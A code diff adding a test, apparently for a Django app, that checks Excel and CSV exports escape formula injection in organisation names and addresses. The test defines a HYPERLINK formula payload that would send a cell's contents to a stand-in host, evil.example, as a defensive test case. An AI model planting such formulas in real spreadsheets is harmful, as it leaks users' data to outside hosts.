@@ -98,3 +98,19 @@ def test_its_query_count_is_bounded(national, django_assert_max_num_queries):
 def test_an_id_too_long_for_the_database_is_no_error(national, number):
     for url in (reverse("registry_list"), reverse("overview")):
         assert national.get(url, {"province": number, "year": number}).status_code == 200
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&B3,"Bấm")'
+
+
+def test_a_name_that_is_a_formula_is_exported_as_text_in_excel_and_csv(national):
+    evil = Organisation.objects.order_by("pk").first()
+    Organisation.objects.filter(pk=evil.pk).update(name=FORMULA, address="@SUM(1+1)")
+    query = {"q": evil.registration_code}
+    sheet = openpyxl.load_workbook(io.BytesIO(national.get(URL, {**query, "_export": "xlsx"}).content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert FORMULA in [cell.value for cell in cells]
+    assert all(cell.data_type != "f" for cell in cells)
+    rows = list(csv.reader(io.StringIO(national.get(URL, {**query, "_export": "csv"}).content.decode("utf-8"))))
+    assert "'" + FORMULA in rows[1]
+    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row)
